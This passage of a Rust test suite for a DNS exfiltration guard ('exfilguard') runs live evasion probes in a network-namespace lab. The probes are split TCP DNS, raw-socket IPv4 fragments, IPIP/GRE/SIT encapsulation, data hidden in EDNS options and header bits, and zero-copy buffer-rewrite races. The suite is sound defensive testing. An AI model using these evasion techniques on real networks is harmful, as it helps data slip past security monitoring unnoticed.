//! The evasion suite: one live probe per data-plane evasion class, in real network namespaces
//! against the real `exfilguard protect`. Each probe sends an ATTACK (tunnel-shaped queries, or
//! data, smuggled past the data plane one way) and a BENIGN CONTROL; tcpdump on the far (server)
//! side records what arrived, and the capture is decoded for each probe's own encoding (TCP
//! streams and IPv4 fragments reassembled; IPIP, GRE, SIT, VXLAN, GENEVE and IP-in-UDP
//! unwrapped; messages concatenated by UDP GSO split). A probe passes when none of its attack
//! arrived and every control did: a probe whose control did not arrive fails.
//!
//! An attack message "arrived" when its DNS message decodes on the far side (question under the
//! probe's tunnel zone; for data carriers, with the data still outside the question) or when its
//! secret bytes (the random tunnel label, the smuggled data) appear whole in anything the server
//! side received: a packet, a reassembled TCP stream or a reassembled IPv4 datagram.
//!
//! Lab (`support/lab.rs` plus what `World::build` adds): client netns 10.77.0.1 / fd77::1 with
//! the agent on its veth; server netns 10.77.0.2 / fd77::2, dnsmasq on port 53; VXLAN
//! 10.88.0.0/24 over the veth; a second veth 10.79.0.0/24 + fd79::/64 the agent is not told
//! about; best-effort VLAN sub-interfaces on the server (10.81.0.0/24 on 802.1Q 100,
//! 10.82.0.0/24 on QinQ 200/300); a tun device routing 10.66.0.2/32 (probe 7); a TCP listener
//! on the server's port 5353 that reads and discards (probe 13). The tunnel zone of probe `slug` is
//! `t.<slug>-tunnel.test` (a registered domain of its own: one probe's conviction does not decide
//! another's); control names are `<word>.<slug>.test`, short and plain.
//!
//! Needs root; EXFILGUARD_SKIP_KERNEL_TESTS=1 skips loudly. EXFILGUARD_EVASION_PROBES=tcp,frag
//! (slugs or numbers) runs a subset.

#[path = "support/lab.rs"]
mod lab;

use exfilguard_dns::capture::read_capture;
use exfilguard_dns::message::{looks_like_dns, parse_message};
use lab::{possible_with, sh, Agent, Lab};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serde_json::Value;
use std::collections::{BTreeSet, HashMap};
use std::fs::File;
use std::io::{self, BufRead, BufReader, Write};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, TcpStream, ToSocketAddrs, UdpSocket};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

const TOOLS: [&str; 5] = ["ip", "nsenter", "dnsmasq", "tcpdump", "dig"];

const CLIENT: Ipv4Addr = Ipv4Addr::new(10, 77, 0, 1);
const SERVER: Ipv4Addr = Ipv4Addr::new(10, 77, 0, 2);
const CLIENT6: Ipv6Addr = Ipv6Addr::new(0xfd77, 0, 0, 0, 0, 0, 0, 1);
const SERVER6: Ipv6Addr = Ipv6Addr::new(0xfd77, 0, 0, 0, 0, 0, 0, 2);
/// The far end of the lab's VXLAN device.
const VXLAN_SERVER: Ipv4Addr = Ipv4Addr::new(10, 88, 0, 2);
/// The far end of the second veth, which the agent is not told about.
const IFACE2_SERVER: Ipv4Addr = Ipv4Addr::new(10, 79, 0, 2);
const IFACE2_SERVER6: Ipv6Addr = Ipv6Addr::new(0xfd79, 0, 0, 0, 0, 0, 0, 2);
/// Routed into the userspace VPN's tun device; the VPN forwards to SERVER:VPN_PORT.
const VPN_DST: Ipv4Addr = Ipv4Addr::new(10, 66, 0, 2);
const VPN_PORT: u16 = 51820;
/// `linux/if_packet.h` (not in the libc crate).
const PACKET_QDISC_BYPASS: libc::c_int = 20;
/// `linux/if_packet.h`: a virtio-net header before each frame (GSO requests).
const PACKET_VNET_HDR: libc::c_int = 15;
const B32: &[u8] = b"abcdefghijklmnopqrstuvwxyz234567";
/// The first uid of the subordinate range the probes' agent is told nobody (65534) holds.
const SUBUID_FIRST: u32 = 200_000;

type ProbeFn = fn(&World, &mut Probe, &mut StdRng);

/// (slug, what the probe tries, probe). The slug names the probe's zone and control names
/// (at most 9 letters: control names stay plain). Probe 15 (`case`) follows them with an agent
/// session of its own (`letter_case`).
const PROBES: [(&str, &str, ProbeFn); 15] = [
    (
        "baseline",
        "baseline: tunnel queries on plain UDP/53 (no evasion)",
        baseline,
    ),
    (
        "tcp",
        "DNS over TCP split over segments / several per segment",
        tcp_split,
    ),
    ("frag", "IPv4 fragments of a UDP/53 query", fragments),
    (
        "ports",
        "plain DNS to the VXLAN/GENEVE ports",
        overlay_ports,
    ),
    ("raw", "non-DNS payloads to UDP/53", raw53),
    ("edns", "data outside the question", data_outside),
    ("encap", "raw-socket IPIP / GRE / SIT", encapsulations),
    ("vpn", "userspace VPN over a tun device", userspace_vpn),
    (
        "iface",
        "a second interface the agent does not know",
        second_interface,
    ),
    ("gso", "UDP GSO (UDP_SEGMENT)", udp_gso),
    ("afpacket", "AF_PACKET with PACKET_QDISC_BYPASS", af_packet),
    ("vlan", "802.1Q / 802.1ad tagged frames", vlan_tags),
    (
        "altport",
        "DNS over TCP to a resolver on another port, cut anywhere",
        tcp_other_port,
    ),
    (
        "zerocopy",
        "a query in pages the sender rewrites (MSG_ZEROCOPY)",
        zerocopy,
    ),
    (
        "cookie",
        "a fresh EDNS cookie in every plain query",
        cookie_carrier,
    ),
];
const CASE: (&str, &str) = ("case", "letter-case and type variants of an allowed name");

#[test]
fn evasion_probes() {
    if !possible_with(&TOOLS) {
        return;
    }
    let t0 = Instant::now();
    let wanted = selection();
    let world = World::build();
    // everything the server namespace receives (cooked), and its veth as Ethernet: the cooked
    // form loses VLAN tags the kernel took out of the frame
    let vs = format!("vs{}", world.lab.id);
    let mut captures = [
        Tcpdump::start(&world.lab, "any"),
        Tcpdump::start(&world.lab, &vs),
    ];
    // a subordinate uid range of nobody's (what useradd writes for rootless containers): the
    // cookie probe sends from uids in it
    let subuid = world.lab.work.join("subuid");
    std::fs::write(&subuid, format!("nobody:{SUBUID_FIRST}:65536\n")).expect("subuid file");
    let agent = Agent::start_env(
        &world.lab,
        &[],
        &[(
            "EXFILGUARD__BEHAVIOUR__SUBUID_FILE",
            subuid.to_str().expect("UTF-8 path"),
        )],
    );
    let mut rng = StdRng::seed_from_u64(0x0e7a_5105);
    let mut probes = Vec::new();
    for (no, (slug, title, run)) in PROBES.into_iter().enumerate() {
        let mut p = Probe::new(no, slug, title);
        if wanted(no, slug) {
            guarded(&mut p, |p| run(&world, p, &mut rng));
        }
        probes.push(p);
    }
    let mut lines = agent.stop();
    let mut p = Probe::new(PROBES.len(), CASE.0, CASE.1);
    if wanted(p.no, p.slug) {
        guarded(&mut p, |p| lines.extend(letter_case(&world, p, &mut rng)));
    }
    probes.push(p);
    pause(1000);
    let pcaps: Vec<Vec<u8>> = captures.iter_mut().map(Tcpdump::stop).collect();
    let agent_log = world.lab.work.join("agent.jsonl");
    let text: String = lines.iter().map(|l| format!("{l}\n")).collect();
    let _ = std::fs::write(&agent_log, text);
    let seen = analyse(&pcaps);
    let rows: Vec<Row> = probes
        .iter()
        .filter(|p| p.ran)
        .map(|p| judge(p, &seen, &lines))
        .collect();
    assert!(
        !rows.is_empty(),
        "EXFILGUARD_EVASION_PROBES selected no probe"
    );
    print_report(&rows, &probes, &seen, &lines, &world, t0);
    eprintln!(
        " captures and the agent's JSON lines: {}\n",
        world.lab.work.display()
    );
    let failed: Vec<String> = rows
        .iter()
        .filter(|r| !r.failures.is_empty())
        .map(|r| {
            let p = &probes[r.probe];
            format!(
                "probe {} `{}` ({}): {}",
                p.no,
                p.slug,
                p.title,
                r.failures.join("; ")
            )
        })
        .collect();
    assert!(
        failed.is_empty(),
        "{} of {} evasion probes FAILED:\n{}",
        failed.len(),
        rows.len(),
        failed.join("\n")
    );
}

/// EXFILGUARD_EVASION_PROBES=slug,number,…: the probes to run (default all).
fn selection() -> impl Fn(usize, &str) -> bool {
    let list: Option<Vec<String>> = std::env::var("EXFILGUARD_EVASION_PROBES")
        .ok()
        .map(|v| v.split(',').map(|s| s.trim().to_string()).collect());
    move |no, slug| {
        list.as_ref()
            .is_none_or(|l| l.iter().any(|x| x == slug || x.parse() == Ok(no)))
    }
}

/// Runs one probe, a panic inside it recorded as the probe's failure.
fn guarded(p: &mut Probe, run: impl FnOnce(&mut Probe)) {
    let t = Instant::now();
    let outcome = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| run(&mut *p)));
    if let Err(e) = outcome {
        let why = e
            .downcast_ref::<String>()
            .cloned()
            .or_else(|| e.downcast_ref::<&str>().map(|s| s.to_string()))
            .unwrap_or_default();
        p.problems.push(format!("the probe panicked: {why}"));
    }
    p.ran = true;
    eprintln!(
        "probe {} {}: done in {:.1} s",
        p.no,
        p.slug,
        t.elapsed().as_secs_f64()
    );
    pause(300);
}

/// The plainest control: `www.<slug>.test` A on UDP/53 to the server.
fn plain_control(p: &mut Probe, s: &UdpSocket, rng: &mut StdRng) {
    let ctl = p.name("www");
    let r = send(s, (SERVER, 53), &query(rng.random(), &ctl));
    p.control("plain query, UDP/53", &ctl, r);
}

fn pause(ms: u64) {
    std::thread::sleep(Duration::from_millis(ms));
}

// ------------------------------------------------------------------------------------ probes

/// Tunnel queries on the plain path, which the data plane stops today: if this fails the lab,
/// the zone or the brain is wrong and the other probes mean nothing.
fn baseline(w: &World, p: &mut Probe, rng: &mut StdRng) {
    let s = w.udp4();
    let dst = (SERVER, 53);
    plain_control(p, &s, rng);
    let held = format!("averyveryverylonglabelnameforthetest.{}.test", p.slug);
    p.control(
        "long benign name (held, judged, released)",
        &held,
        send(&s, dst, &query(rng.random(), &held)),
    );
    for _ in 0..4 {
        let (label, name) = p.tunnel(rng);
        let r = send(&s, dst, &query(rng.random(), &name));
        p.secret("tunnel query, UDP/53", &label, &name, r);
        pause(30);
    }
}

/// Probe 1: DNS over TCP to port 53: the length prefix alone in one segment and the message in the
/// next; a message split in the middle of its name; several messages in one segment (a plain one
/// first). Each attack on its own connection, TCP_NODELAY, a pause between writes.
fn tcp_split(w: &World, p: &mut Probe, rng: &mut StdRng) {
    let ns = w.ns();
    let dst = SocketAddr::from((SERVER, 53));
    let connect = || nodelay_conn(&ns, dst);
    let mut conns = Vec::new();

    // control: what `dig +tcp +keepopen` does, several queries on one connection, each query
    // (prefix and message) in one segment
    let ctl = connect();
    for word in ["www", "mail", "ns"] {
        let name = p.name(word);
        let r = writes(&ctl, &[&framed(&query(rng.random(), &name))]);
        p.control(
            &format!("{word}: length + message in one segment, one connection"),
            &name,
            r,
        );
        pause(30);
    }
    conns.push(ctl);

    let c = connect();
    for _ in 0..3 {
        let (label, name) = p.tunnel(rng);
        let m = query(rng.random(), &name);
        let r = writes(&c, &[&(m.len() as u16).to_be_bytes(), &m]);
        p.secret(
            "2-byte length alone, message in the next segment",
            &label,
            &name,
            r,
        );
        pause(60);
    }
    conns.push(c);

    let c = connect();
    for _ in 0..2 {
        let (label, name) = p.tunnel(rng);
        let f = framed(&query(rng.random(), &name));
        // prefix, header, the label's length byte and half the label | the rest
        let cut = 2 + 12 + 1 + label.len() / 2;
        let r = writes(&c, &[&f[..cut], &f[cut..]]);
        p.secret("message split in the middle of its name", &label, &name, r);
        pause(60);
    }
    conns.push(c);

    let c = connect();
    let mut segment = framed(&query(rng.random(), &p.name("lead")));
    let mut tunnels = Vec::new();
    for _ in 0..3 {
        let (label, name) = p.tunnel(rng);
        segment.extend(framed(&query(rng.random(), &name)));
        tunnels.push((label, name));
    }
    let r = sent(writes(&c, &[&segment]));
    for (label, name) in tunnels {
        p.secret_sent(
            "3 tunnel messages after a plain one, one segment",
            &label,
            &name,
            r.clone(),
        );
    }
    conns.push(c);

    // time for retransmissions of anything dropped, then reset (no lingering retries)
    pause(1500);
    reset_all(conns);
}

/// A resolver's TCP port other than 53 (public resolvers listen on 443 and 5353 too).
const ALT_PORT: u16 = 5353;

/// Probe 12: DNS over TCP to a resolver on port 5353, where no port rule says "DNS": the first
/// 3 bytes alone, then the rest; the 2-byte length alone; a plain query whole, then a tunnel
/// query cut after 5 bytes; a query cut in its name; a stream led by a response (QR=1), its
/// queries cut at odd offsets; streams led by a frame no query looks like, which resolvers
/// answer with an error and read on after (opcode 7 with five questions, 200 bytes of garbage,
/// a 5-byte frame), the tunnel query after it cut or whole in the same segment; a whole odd
/// frame sent zero-copy, dropped, and rewritten into a junk frame and a tunnel query before
/// TCP retransmits it from the same pages. Controls:
/// queries whole on one connection, two non-DNS streams whose first segments are shorter than
/// a DNS header (a Redis-like PING, an HTTP request cut after one byte), and two whose bytes,
/// read as DNS framing, make many frames (UTF-16BE text, a run of 0x01 bytes).
fn tcp_other_port(w: &World, p: &mut Probe, rng: &mut StdRng) {
    let stop = Arc::new(AtomicBool::new(false));
    let listener = in_netns(&w.lab.sns(), || {
        std::net::TcpListener::bind((SERVER, ALT_PORT))
    })
    .expect("a listener on the server's alternative DNS port");
    let drain = {
        let stop = stop.clone();
        std::thread::spawn(move || drain(listener, &stop))
    };
    let ns = w.ns();
    let dst = SocketAddr::from((SERVER, ALT_PORT));
    let connect = || nodelay_conn(&ns, dst);
    let mut conns = Vec::new();

    let ctl = connect();
    for word in ["www", "mail", "ns"] {
        let name = p.name(word);
        let r = writes(&ctl, &[&framed(&query(rng.random(), &name))]);
        p.control(&format!("{word}: whole query on port {ALT_PORT}"), &name, r);
        pause(30);
    }
    conns.push(ctl);
    let redis: [&[u8]; 2] = [
        b"PING\r\n",
        b"*3\r\n$3\r\nSET\r\n$5\r\nalpha\r\n$5\r\nomega\r\n",
    ];
    let r = writes(&connect(), &redis);
    p.control_data(
        "non-DNS stream, 6-byte first segment (PING)",
        vec![b"$5\r\nalpha\r\n$5\r\nomega".to_vec()],
        r,
        false,
    );
    let http: [&[u8]; 2] = [
        b"G",
        b"ET /index.html HTTP/1.1\r\nHost: portal.example\r\n\r\n",
    ];
    let r = writes(&connect(), &http);
    p.control_data(
        "non-DNS stream, 1-byte first segment (HTTP)",
        vec![b"ET /index.html HTTP/1.1".to_vec()],
        r,
        false,
    );

    // benign streams that, read as DNS framing, step over many frames: still theirs
    let utf16: Vec<u8> = "Grüße aus dem Büro, "
        .repeat(100)
        .encode_utf16()
        .flat_map(u16::to_be_bytes)
        .collect();
    let r = writes(&connect(), &[&utf16]);
    p.control_data(
        "non-DNS stream, UTF-16BE text (a 'frame' every 70-250 bytes)",
        vec![utf16[..64].to_vec()],
        r,
        false,
    );
    let ones = vec![1u8; 6000];
    let r = writes(&connect(), &[&ones[..100], &ones[100..]]);
    p.control_data(
        "non-DNS stream, 6000 bytes of 0x01 (a 'frame' every 259 bytes)",
        vec![ones[..64].to_vec()],
        r,
        false,
    );

    // frames no query looks like, which resolvers answer with an error and read on after
    // (tried: opcode 7 and random bytes, Unbound and BIND; a 5-byte frame, dnsmasq)
    let mut junk = query(rng.random(), &p.name("junk"));
    junk[2] = 0x38; // opcode 7
    junk[5] = 5; // five questions
    let junk = framed(&junk);
    let junk2 = junk.clone();
    let garbage = framed(&(0..200u8).collect::<Vec<u8>>());
    let tiny = framed(&[1, 2, 3, 4, 5]);
    let plain = framed(&query(rng.random(), &p.name("lead")));
    let mut response = Msg::query(rng.random(), &p.name("resp"));
    response.flags = 0x8180;
    let response = framed(&response.bytes());
    let mut cut =
        |p: &mut Probe, what: &str, lead: Option<Vec<u8>>, at: &dyn Fn(usize) -> usize| {
            let c = connect();
            if let Some(lead) = lead {
                let _ = writes(&c, &[&lead]);
                pause(30);
            }
            let (label, name) = p.tunnel(rng);
            let f = framed(&query(rng.random(), &name));
            let k = at(label.len());
            let r = writes(&c, &[&f[..k], &f[k..]]);
            p.secret(what, &label, &name, r);
            conns.push(c);
        };
    cut(p, "first 3 bytes alone, then the rest", None, &|_| 3);
    cut(p, "2-byte length alone, then the message", None, &|_| 2);
    cut(p, "message cut in its name", None, &|n| 2 + 12 + 1 + n / 2);
    cut(
        p,
        "a plain query whole, then one cut after 5 bytes",
        Some(plain),
        &|_| 5,
    );
    cut(
        p,
        "led by a response (QR=1), then cut after 3 bytes",
        Some(response),
        &|_| 3,
    );
    cut(
        p,
        "led by a frame of opcode 7 and five questions, then cut after 3 bytes",
        Some(junk.clone()),
        &|_| 3,
    );
    cut(
        p,
        "led by a frame of 200 bytes of garbage, then cut after 5 bytes",
        Some(garbage),
        &|_| 5,
    );
    cut(
        p,
        "led by a 5-byte frame, then cut in its name",
        Some(tiny),
        &|n| 2 + 12 + 1 + n / 2,
    );
    let c = connect();
    let (label, name) = p.tunnel(rng);
    let mut seg = junk;
    seg.extend(framed(&query(rng.random(), &name)));
    let r = writes(&c, &[&seg]);
    p.secret(
        "a frame of opcode 7 and a whole query in one segment",
        &label,
        &name,
        r,
    );
    conns.push(c);

    // a whole odd frame (two questions) sent zero-copy is dropped (`user_pages`) after the
    // follower stepped over it; TCP retransmits from the same pages, rewritten meanwhile into
    // a 5-byte frame and a tunnel query of the same total length
    let c = connect();
    let _ = writes(&c, &[&junk2]);
    pause(30);
    let (label, name) = p.tunnel(rng);
    let q = framed(&query(rng.random(), &name));
    let mut odd = query(rng.random(), &p.name("odd"));
    odd[5] = 2;
    odd.resize(5 + q.len(), 0);
    let mut buf = framed(&odd);
    let r = c.as_ref().map_err(again).and_then(|s| {
        let on: libc::c_int = 1;
        setsockopt(s, libc::SOL_SOCKET, libc::SO_ZEROCOPY, &on)?;
        send_zerocopy(s, &buf)
    });
    // the first transmission left inside send(); the retransmission reads these pages
    let mut swapped = vec![0, 5, 1, 2, 3, 4, 5];
    swapped.extend_from_slice(&q);
    buf.copy_from_slice(&swapped);
    p.secret(
        "a whole frame sent zero-copy, dropped, rewritten before TCP retransmits it",
        &label,
        &name,
        r,
    );
    conns.push(c);

    pause(1500);
    reset_all(conns);
    drop(buf);
    stop.store(true, Ordering::Relaxed);
    let _ = drain.join();
}

/// Probe 13: MSG_ZEROCOPY: the datagram's pages stay the sender's, so what the kernel judged
/// can be rewritten before the device (or the peer) reads it. Attack: plain-looking queries
/// sent zero-copy, each buffer overwritten with a tunnel query of the same length as soon as
/// the send returns. Both the plain name (what was judged) and the tunnel label (what a won
/// race delivers) count as arrived secrets. Control: the same kind of query, copied.
fn zerocopy(w: &World, p: &mut Probe, rng: &mut StdRng) {
    let s = w.udp4();
    plain_control(p, &s, rng);
    let on: libc::c_int = 1;
    if let Err(e) = setsockopt(&s, libc::SOL_SOCKET, libc::SO_ZEROCOPY, &on) {
        p.problems.push(format!(
            "SO_ZEROCOPY refused: {e}: the probe proves nothing"
        ));
        return;
    }
    s.connect((SERVER, 53)).expect("connect");
    for _ in 0..4 {
        let short = b32(rng, 8);
        let plain_name = format!("{short}.{}", p.zone());
        let (label, tunnel) = p.tunnel(rng);
        let mut buf = query(rng.random(), &plain_name);
        let evil = query(rng.random(), &tunnel);
        let r = send_zerocopy(&s, &buf);
        // the race: the pages still belong to this process
        let k = buf.len().min(evil.len());
        buf[..k].copy_from_slice(&evil[..k]);
        p.secret_sent(
            "plain query sent zero-copy (judged, then rewritable)",
            &short,
            &plain_name,
            sent(r.as_ref().map(|_| ()).map_err(again)),
        );
        p.secret(
            "tunnel bytes written into the zero-copy buffer after the send",
            &label,
            &tunnel,
            r,
        );
        pause(50);
        drop(buf);
    }
}

/// A TCP connection from namespace `ns`, TCP_NODELAY (each write one segment).
fn nodelay_conn(ns: &str, dst: SocketAddr) -> io::Result<TcpStream> {
    in_netns(ns, || {
        let c = TcpStream::connect_timeout(&dst, Duration::from_secs(2))?;
        c.set_nodelay(true)?;
        Ok(c)
    })
}

/// Closes the probe's connections with a reset (linger 0): no retransmission lingers on.
fn reset_all(conns: Vec<io::Result<TcpStream>>) {
    for c in conns.into_iter().flatten() {
        let off = libc::linger {
            l_onoff: 1,
            l_linger: 0,
        };
        let _ = setsockopt(&c, libc::SOL_SOCKET, libc::SO_LINGER, &off);
    }
}

/// Accepts and reads every connection until `stop` (what arrived is judged from the capture).
fn drain(listener: std::net::TcpListener, stop: &AtomicBool) {
    listener
        .set_nonblocking(true)
        .expect("non-blocking listener");
    let mut readers = Vec::new();
    while !stop.load(Ordering::Relaxed) {
        match listener.accept() {
            Ok((mut c, _)) => readers.push(std::thread::spawn(move || {
                let _ = c.set_read_timeout(Some(Duration::from_secs(5)));
                let mut buf = [0u8; 4096];
                while matches!(io::Read::read(&mut c, &mut buf), Ok(n) if n > 0) {}
            })),
            Err(_) => pause(20),
        }
    }
    for r in readers {
        let _ = r.join();
    }
}

/// Probe 2: A UDP/53 query in IPv4 fragments from a raw socket (IP_HDRINCL): a first fragment of
/// the UDP header only (or 16 bytes), the question in the later one.
fn fragments(w: &World, p: &mut Probe, rng: &mut StdRng) {
    let s = w.udp4();
    plain_control(p, &s, rng);
    // what a fix must keep working: a large non-DNS datagram the kernel fragments
    let big = b32(rng, 3000).into_bytes();
    let big_sock = w.udp4();
    let r = setsockopt(
        &big_sock,
        libc::IPPROTO_IP,
        libc::IP_MTU_DISCOVER,
        &libc::IP_PMTUDISC_DONT,
    )
    .and_then(|_| send(&big_sock, (SERVER, 5001), &big));
    p.control_data(
        "3000-byte non-DNS UDP datagram to port 5001, fragmented by the kernel",
        vec![big],
        r,
        false,
    );
    let raw = in_netns(&w.ns(), || {
        socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW)
    });
    for (variant, first, reversed) in [
        ("first fragment = the 8-byte UDP header", 8, false),
        (
            "first fragment = UDP header + 8 bytes of DNS header",
            16,
            false,
        ),
        ("UDP-header-only first fragment sent last", 8, true),
    ] {
        for _ in 0..2 {
            let (label, name) = p.tunnel(rng);
            let dg = ipv4_udp(
                CLIENT,
                SERVER,
                rng.random_range(20000..60000),
                53,
                &query(rng.random(), &name),
            );
            let udp = &dg[20..];
            let id = rng.random::<u16>() | 1;
            let mut frags = [
                ipv4_fragment(id, 0, true, &udp[..first]),
                ipv4_fragment(id, first, false, &udp[first..]),
            ];
            if reversed {
                frags.reverse();
            }
            let r = raw
                .as_ref()
                .map_err(again)
                .and_then(|fd| frags.iter().try_for_each(|f| sendto_ip(fd, f, SERVER)));
            p.secret(variant, &label, &name, r);
            pause(30);
        }
    }
}

/// Probe 3: Plain DNS (no VXLAN/GENEVE header) to UDP 4789 and 6081 on the server; half the DNS ids
/// carry the VXLAN I bit in their first byte.
fn overlay_ports(w: &World, p: &mut Probe, rng: &mut StdRng) {
    let s = w.udp4();
    plain_control(p, &s, rng);
    let vx = p.name("vxlan");
    p.control(
        "benign query over the lab's VXLAN device (real VXLAN, UDP/4789)",
        &vx,
        send(&s, (VXLAN_SERVER, 53), &query(rng.random(), &vx)),
    );
    for (port, word) in [(4789, "plainvx"), (6081, "plaingn")] {
        let n = p.name(word);
        let r = send(&s, (SERVER, port), &query(rng.random(), &n));
        p.info(&format!("benign plain DNS to UDP/{port}"), &n, r);
    }
    for port in [4789u16, 6081] {
        for (how, ibit) in [("", false), (", DNS id with the VXLAN I bit", true)] {
            for _ in 0..2 {
                let (label, name) = p.tunnel(rng);
                let id = if ibit {
                    rng.random::<u16>() | 0x0800
                } else {
                    rng.random::<u16>() & !0x0800
                };
                let r = send(&s, (SERVER, port), &query(id, &name));
                p.secret(&format!("plain DNS to UDP/{port}{how}"), &label, &name, r);
            }
        }
    }
}

/// Probe 4: Payloads to UDP/53 that are not DNS queries: random bytes (a raw tunnel); and, beyond
/// the brief, DNS that is not a standard query (a response carrying TXT data, NOTIFY, UPDATE).
fn raw53(w: &World, p: &mut Probe, rng: &mut StdRng) {
    let s = w.udp4();
    let dst = (SERVER, 53);
    plain_control(p, &s, rng);
    for _ in 0..5 {
        let mut b = vec![0u8; rng.random_range(64..200)];
        for _ in 0..100 {
            rng.fill(&mut b[..]);
            if !looks_like_dns(&b) && parse_message(&b).is_err() && walk_msg(&b).is_none() {
                break;
            }
        }
        let r = send(&s, dst, &b);
        p.secret_data("random bytes (a raw tunnel)", b, r);
    }
    for _ in 0..2 {
        let data = b32(rng, 120).into_bytes();
        let mut m = Msg::query(rng.random(), &p.name("resp"));
        m.flags = 0x8180;
        m.answers.push(txt_rr(&data));
        let r = send(&s, dst, &m.bytes());
        p.secret_data("a DNS response (QR=1) with TXT data, sent to 53", data, r);
    }
    for (variant, opcode, qtype) in [
        ("NOTIFY (opcode 4) naming a tunnel name", 4u16, 6u16),
        ("UPDATE (opcode 5) with a tunnel name as its zone", 5, 6),
    ] {
        for _ in 0..2 {
            let (label, name) = p.tunnel(rng);
            let mut m = Msg::query(rng.random(), &name);
            m.flags = opcode << 11;
            m.qtype = qtype;
            let r = send(&s, dst, &m.bytes());
            p.secret(variant, &label, &name, r);
        }
    }
}

/// Probe 5: Data outside the question: a plain question with 200 bytes in an EDNS option, in the
/// padding option, in an answer / authority / additional TXT record, or after the message. Counted
/// when such a message arrives with the data (or the data arrives at all).
fn data_outside(w: &World, p: &mut Probe, rng: &mut StdRng) {
    let s = w.udp4();
    let dst = (SERVER, 53);
    let cookie: [u8; 8] = rng.random();
    let n = p.name("www");
    let m = Msg::query(rng.random(), &n).opt(&[(10, &cookie)]).bytes();
    p.control(
        "query with dig's default OPT (UDP 1232, 8-byte client cookie)",
        &n,
        send(&s, dst, &m),
    );
    let n = p.name("mail");
    p.control(
        "plain query without OPT",
        &n,
        send(&s, dst, &query(rng.random(), &n)),
    );
    type Carry = fn(Msg, &[u8]) -> Msg;
    let carriers: [(&str, &str, Carry); 6] = [
        ("ednsopt", "200 bytes in EDNS option 65001", |m, d| {
            m.opt(&[(65001, d)])
        }),
        (
            "ednspad",
            "200 bytes of data in the EDNS padding option",
            |m, d| m.opt(&[(12, d)]),
        ),
        (
            "ednsans",
            "a TXT record in the answer section",
            |mut m, d| {
                m.answers.push(txt_rr(d));
                m
            },
        ),
        (
            "ednsauth",
            "a TXT record in the authority section",
            |mut m, d| {
                m.authority.push(txt_rr(d));
                m
            },
        ),
        (
            "ednsaddl",
            "a TXT record in the additional section",
            |mut m, d| {
                m.additional.push(txt_rr(d));
                m
            },
        ),
        (
            "ednstail",
            "200 bytes after the end of the message",
            |mut m, d| {
                m.trailing = d.to_vec();
                m
            },
        ),
    ];
    for (domain, variant, carry) in carriers {
        for word in ["www", "mail"] {
            let name = format!("{word}.{domain}.test");
            let data = b32(rng, 200).into_bytes();
            let m = carry(Msg::query(rng.random(), &name), &data).bytes();
            let r = send(&s, dst, &m);
            p.secrets.push(Secret {
                variant: variant.to_string(),
                bytes: data,
                qname: Some(name),
                needs_outside: true,
                sent: sent(r),
            });
        }
    }
    // the free bits of a plain query: the name is benign, the data is in header bits no
    // query sets (AA TC RA Z RCODE, 8 bits) or in the OPT TTL past DO and CO (30 bits); such a
    // query arriving at all is the leak. Control: RD AD CD with DO and CO, as `dig +dnssec`.
    let n = p.name("ftp");
    let mut m = Msg::query(rng.random(), &n).opt(&[(10, &cookie)]);
    m.flags = 0x0130;
    m.additional[0][5..9].copy_from_slice(&[0, 0, 0xc0, 0]);
    p.control(
        "RD AD CD, OPT with DO and CO",
        &n,
        send(&s, dst, &m.bytes()),
    );
    for (domain, variant) in [
        ("hdrbits", "data in the header bits AA TC RA Z RCODE"),
        (
            "optbits",
            "data in the OPT TTL (extended RCODE, version, flags)",
        ),
    ] {
        for word in ["www", "mail"] {
            let name = format!("{word}.{domain}.test");
            let mut m = Msg::query(rng.random(), &name).opt(&[(10, &cookie)]);
            if domain == "hdrbits" {
                m.flags |= rng.random_range(1..=u16::MAX) & 0x06cf | 0x0200;
            } else {
                let free: u32 = rng.random::<u32>() & !0xc000 | 0x0100_0000;
                m.additional[0][5..9].copy_from_slice(&free.to_be_bytes());
            }
            let r = send(&s, dst, &m.bytes());
            p.secrets.push(Secret {
                variant: variant.to_string(),
                bytes: wire_name(&name),
                qname: Some(name),
                needs_outside: false,
                sent: sent(r),
            });
        }
    }
    // what the agent's parser hid (an attacker's review, 2026-12-07): an OPT whose owner is a
    // pointer and whose option list is cut short (hickory drops the list: 1 396 bytes
    // explained), and 32 cookies in one OPT; the kernel holds both, the agent must not
    // release them
    for (domain, variant) in [
        (
            "ednswipe",
            "1 396 bytes in an OPT the parser empties (pointer owner, cut-short option)",
        ),
        ("ednsmany", "32 cookies of 40 bytes in one OPT"),
    ] {
        for word in ["www", "mail"] {
            let name = format!("{word}.{domain}.test");
            let mut m = Msg::query(rng.random(), &name).bytes();
            m[11] = 1;
            let data = if domain == "ednswipe" {
                let d = b32(rng, 1396).into_bytes();
                m.extend([
                    0xc0, 4, 0, 41, 4, 0xd0, 0, 0, 0, 0, 0x05, 0x78, 0xfd, 0xe9, 0x05, 0x78,
                ]);
                m.extend(&d);
                d
            } else {
                let d = b32(rng, 32 * 40).into_bytes();
                m.extend([0, 0, 41, 4, 0xd0, 0, 0, 0, 0, 0x05, 0x80]);
                for c in d.chunks(40) {
                    m.extend([0, 10, 0, 40]);
                    m.extend(c);
                }
                d
            };
            let r = send(&s, dst, &m);
            p.secrets.push(Secret {
                variant: variant.to_string(),
                bytes: data[..40].to_vec(),
                qname: Some(name),
                needs_outside: false,
                sent: sent(r),
            });
        }
    }
}

/// Probe 6: Encapsulations sent from raw sockets on the client host: IP-in-IP, GRE (plain, with a
/// key, carrying Ethernet) and SIT (IPv6 in IPv4), each carrying a UDP/53 query to the server.
/// Control: a benign query in the same encapsulation arrives — or the raw socket is refused
/// (EPERM), as for PACKET_QDISC_BYPASS.
fn encapsulations(w: &World, p: &mut Probe, rng: &mut StdRng) {
    let s = w.udp4();
    plain_control(p, &s, rng);
    let key = 0x0e0f_1000u32;
    for (word, variant, proto) in [
        ("ipip", "IP-in-IP (protocol 4)", 4),
        ("gre", "GRE (protocol 47)", 47),
        ("grekey", "GRE with a key", 47),
        ("gretap", "GRE carrying Ethernet (0x6558)", 47),
        ("sit", "SIT: IPv6 in IPv4 (protocol 41)", 41),
    ] {
        let sock = in_netns(&w.ns(), move || {
            socket(libc::AF_INET, libc::SOCK_RAW, proto)
        });
